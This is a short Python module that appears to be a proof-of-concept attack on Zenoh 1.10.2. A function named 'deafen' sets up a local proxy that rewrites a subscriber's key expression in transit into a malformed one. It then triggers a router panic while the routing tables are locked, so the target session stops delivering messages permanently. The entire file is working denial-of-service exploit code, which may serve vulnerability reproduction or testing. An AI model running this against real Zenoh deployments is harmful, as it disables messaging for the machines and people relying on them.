"""A stranger whose malformed declaration makes Zenoh 1.10.2 panic with its routing tables locked."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import zenoh

# a subscriber on "mc/@v1/…/tele" and this: Zenoh takes the key apart before it has looked at it
KEY_END, MALFORMED = b"\x03/**", b"\x03**-"
LIMIT_S = 5.0


def stranger(endpoint: str) -> zenoh.Session:
    """A plain client session."""
    config = zenoh.Config()
    settings = {
        "mode": "client",
        "connect/endpoints": [endpoint],
        "connect/timeout_ms": int(1000 * LIMIT_S),
        "scouting/multicast/enabled": False,
    }
    for key, value in settings.items():
        config.insert_json5(key, json.dumps(value))
    return zenoh.open(config)


def deafen(endpoint: str, machine: str) -> None:
    """Make the session that listens at ``endpoint`` deaf for good."""
    key = f"mc/@v1/{machine}/tele"
    with _malforming(endpoint) as way, stranger(way) as one, stranger(endpoint) as other:
        one.declare_subscriber(f"{key}/**", lambda _: None)
        # known to the server before it goes
        list(one.get(f"mc/@v1/{machine}/info", timeout=LIMIT_S))
        # whoever comes by the malformed key makes Zenoh panic
        other.declare_subscriber(f"{key}/*", lambda _: None)
        list(other.get(f"mc/@v1/{machine}/info", timeout=0.3))


@contextmanager
def _malforming(endpoint: str) -> Iterator[str]:
    """A way to the endpoint for one connection, whose declared key is changed on it."""
    _, _, address = endpoint.partition("/")
    host, _, port = address.rpartition(":")
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def pass_on() -> None:
            with contextlib.suppress(OSError):
                client, _ = listener.accept()
                with client, socket.create_connection((host, int(port))) as server:
                    threading.Thread(target=_carry, args=(server, client), daemon=True).start()
                    _carry(client, server)

        threading.Thread(target=pass_on, daemon=True).start()
        yield f"tcp/127.0.0.1:{listener.getsockname()[1]}"


def _carry(source: socket.socket, sink: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while piece := source.recv(65536):
            sink.sendall(piece.replace(KEY_END, MALFORMED))
